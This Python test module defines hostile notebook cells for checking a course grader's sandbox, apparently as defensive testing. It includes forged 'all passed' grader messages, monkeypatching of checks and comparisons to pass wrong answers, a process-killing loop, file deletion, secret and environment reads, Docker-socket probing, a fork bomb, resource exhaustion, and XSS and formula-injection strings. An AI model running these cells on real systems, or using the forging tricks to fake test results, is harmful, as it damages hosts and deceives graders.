"""Notebooks that would rather not be graded honestly.

Each hands in a wrong answer to forward-1. ``TARGETS`` are the places that it
would like to read or spoil; what it finds it raises, so that the test reads
it among the grader's notes. Outside a sandbox none of them goes further than
its first lines.
"""

GUARD = """
import os, resource
assert os.getpid() == 2
assert "NoNewPrivs:\\t1" in open("/proc/self/status").read()
assert resource.getrlimit(resource.RLIMIT_AS)[0] < 2**40
"""

WRONG = """
from diffusion_lite.exercises import check
def wrong(c, t, schedule):
    return 0.5
check("forward-1", wrong)
"""

FORGE = """
import json, os
print("all passed")
right = {"passed": True, "text": "all passed"}
for message in (
    {"ready": True}, {"value": True, "after": [None] * 3}, right,
    {"handed_in": [["forward-1", right]], "errors": []},
):
    data = json.dumps(message).encode()
    for name in os.listdir("/proc/self/fd"):
        try:
            os.write(int(name), len(data).to_bytes(4, "big") + data)
        except OSError:
            pass
"""

REDEFINE = """
import builtins, torch
import diffusion_lite.exercises as exercises
from diffusion_lite.exercises import trial
class Right:
    passed, text = True, "all passed"
    def __bool__(self): return True
exercises.check = check = lambda *given, **named: Right()
exercises.Verdict = trial.Refused = Right
trial.EXERCISES.clear()
trial.expect = trial.near = lambda *given, **named: True
torch.equal = torch.allclose = lambda *given: True
torch.Tensor.__le__ = lambda *given: torch.ones(1).bool()
builtins.abs = lambda x: 0
"""

LEAVE = [
    "raise SystemExit(0)",
    "exit()",
    "import os\nos._exit(0)",
    "import ctypes\nctypes.string_at(0)",
]

KILL = """
import os, signal
done = []
for pid in [-1, 0, *range(3, 40_000)]:
    if pid != os.getpid():
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                if pid != 0: os.kill(pid, number); done.append(pid)
            except OSError: pass
raise RuntimeError(f"killed {done}, sees "
    f"{[name for name in os.listdir('/proc') if name.isdigit()]}")
"""

SPOIL = """
import os, shutil
done = []
def attempt(what, path, *given):
    try: what(path, *given)
    except OSError: return
    done.append((what.__name__, path))
def write(path): open(path, "w").close()
def inside(path):
    try: names = os.listdir(path)
    except OSError: names = []
    return [path] + [os.path.join(path, name) for name in names]
for top in TARGETS:
    for path in inside(top):
        for what, *given in ((os.chmod, 0), (os.chmod, 0o777), (os.remove,),
            (os.truncate, 0), (write,), (os.rename, path + ".old"),
            (os.utime,), (shutil.rmtree,), (os.chown, 0, 0)):
            attempt(what, path, *given)
        attempt(os.mkdir, os.path.join(path, "new"))
        attempt(write, os.path.join(path, "new.txt"))
        attempt(os.symlink, path, os.path.join(path, "link"))
for setting in ("kernel/core_pattern", "vm/swappiness", "kernel/pid_max"):
    try: open(f"/proc/sys/{setting}", "r+").close(); done.append(setting)
    except OSError: pass
raise RuntimeError(f"spoilt {done}")
"""

SPY = """
import os, sys
OURS = (sys.prefix, sys.base_prefix, os.environ["HOME"])
found = []
for top in TARGETS:
    for folder, _, names in os.walk(top):
        if folder.startswith(OURS): continue
        for name in names:
            try: found.append(open(os.path.join(folder, name)).read(9))
            except (OSError, UnicodeDecodeError): pass
    try: found.append(open(top).read(9))
    except OSError: pass
raise RuntimeError(f"read {found}, holds {sorted(os.environ)}")
"""

CALL_HOME = """
import socket
done = []
for target in [*TARGETS, "1.1.1.1:53", "/run/docker.sock", "\\0abstract"]:
    try:
        if ":" in target:
            host, port = target.split(":")
            end = socket.create_connection((host, int(port)), timeout=2)
        else:
            end = socket.socket(socket.AF_UNIX)
            end.connect(target)
        done.append(target)
    except OSError: pass
raise RuntimeError(f"reached {done}, "
    f"has {[name for _, name in socket.if_nameindex()]}")
"""

FORK = """
import os, signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True:
    try:
        if os.fork() == 0: os.setsid()
    except OSError: pass
"""

THREADS = """
import threading
threading.stack_size(32768)
stop, threads = threading.Event(), 0
try:
    while threads < 10_000:
        threading.Thread(target=stop.wait, daemon=True).start()
        threads += 1
    stop.wait(5)
except RuntimeError: pass
stop.set()
raise RuntimeError(f"threads below 1000: {threads < 1000}")
"""

SHARE = """
import os, time
for _ in range(2):
    if os.fork() == 0:
        held = bytearray(b"x" * (MEMORY * 2 // 5))
        time.sleep(600)
held = bytearray(b"x" * (MEMORY * 2 // 5))
time.sleep(600)
""".replace("MEMORY", "resource.getrlimit(resource.RLIMIT_AS)[0]")

TAKE_CORES = """
import os, time
os.sched_setaffinity(0, range(os.cpu_count()))
time.sleep(600)
"""

LINGER = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0: time.sleep(600)
    os._exit(0)
os.wait()
"""

EAT = """
import mmap, os
held, files = [], 0
try:
    while True: held.append(bytearray(2**26))
except MemoryError: pass
try:
    while True: held.append(mmap.mmap(-1, 2**26))
except (OSError, MemoryError): pass
kept = len(held)
del held
try:
    while True:
        with open(f"large_{files}", "wb") as file: file.write(bytes(2**26))
        files += 1
except OSError: pass
more = []
try:
    while len(more) < 1000:
        more.append(os.memfd_create("more"))
        while os.write(more[-1], bytes(2**20)): pass
except OSError: pass
files += sum(os.fstat(each).st_size for each in more) // 2**26
raise RuntimeError(f"below 5 GB: {kept * 2**26 < 5e9}, "
    f"files below 2 GB: {files < 32}")
"""

HANG = """
import signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True:
    try:
        while True: pass
    except BaseException: pass
"""

FLOOD = """
import os
for _ in range(300):
    print("x" * 2**24)
    os.write(1, bytes(2**20))
    os.write(2, bytes(2**20))
for name in os.listdir("/proc/self/fd"):
    try: os.write(int(name), b"\\xff" * 8 + b"{" * 2**20)
    except OSError: pass
"""

INJECT = """
from diffusion_lite.exercises import check
class Odd(Exception): pass
Odd.__name__ = "=1+1"
def wrong(c, t, schedule):
    raise Odd('</dd><script>alert(1)</script>\\x1b[31m\\u202e"=cmd|calc"')
check("forward-1", wrong)
raise Odd("<img src=x onerror=alert(1)>")
"""

PEEK = """
import gc, sys
def wrong(c, t, schedule):
    names, frame = set(), sys._getframe()
    while frame:
        names |= frame.f_locals.keys() | {frame.f_code.co_name}
        frame = frame.f_back
    kinds = {type(each).__name__ for each in gc.get_objects()}
    names &= {"seed", "trial", "walked", "want"}
    kinds &= {"Trial", "Verdict", "Mark"}
    raise RuntimeError(f"sees {sorted(names)} and {sorted(kinds)}")
from diffusion_lite.exercises import check
check("forward-1", wrong)
"""

STUTTER = """
import time
from diffusion_lite.exercises import check
from diffusion_lite_classroom import wire
send = wire.Pipe.send
def twice(self, message):
    if "value" in message: time.sleep(0.1); send(self, message)
    send(self, message)
wire.Pipe.send = twice
check("forward-1", lambda c, t, schedule: 0.5)
"""

ASK_BACK = """
import gc
from diffusion_lite.exercises import check
from diffusion_lite_classroom import remote
def wrong(c, t, schedule):
    (peer,) = [e for e in gc.get_objects() if type(e) is remote.Peer]
    heard = []
    for number in range(-3, 3):
        for question in ({"call": number, "given": [], "names": []},
            {"pull": number, "gradient": None}, {"call": "__class__"}):
            try: heard.append(peer.ask(question))
            except Exception as error: pass
    raise RuntimeError(f"heard {heard}")
check("forward-1", wrong)
"""


def cells(name: str, targets: list[str]) -> list[str]:
    """Return a hostile notebook's cells; the last hands in a wrong answer."""
    code = HOSTILE[name]
    code = code if isinstance(code, list) else [code]
    start = f"{GUARD}TARGETS = {targets!r}"
    return [WRONG, *(f"{start}\n{cell}" for cell in code)]


HOSTILE = {
    "asks_back": ASK_BACK,
    "calls_home": CALL_HOME,
    "eats": EAT,
    "floods": FLOOD,
    "forges": FORGE,
    "forks": FORK,
    "hangs": HANG,
    "injects": INJECT,
    "kills": KILL,
    "leaves": LEAVE,
    "lingers": LINGER,
    "peeks": PEEK,
    "redefines": REDEFINE,
    "shares": SHARE,
    "spies": SPY,
    "spoils": SPOIL,
    "stutters": STUTTER,
    "takes_cores": TAKE_CORES,
    "threads": THREADS,
}
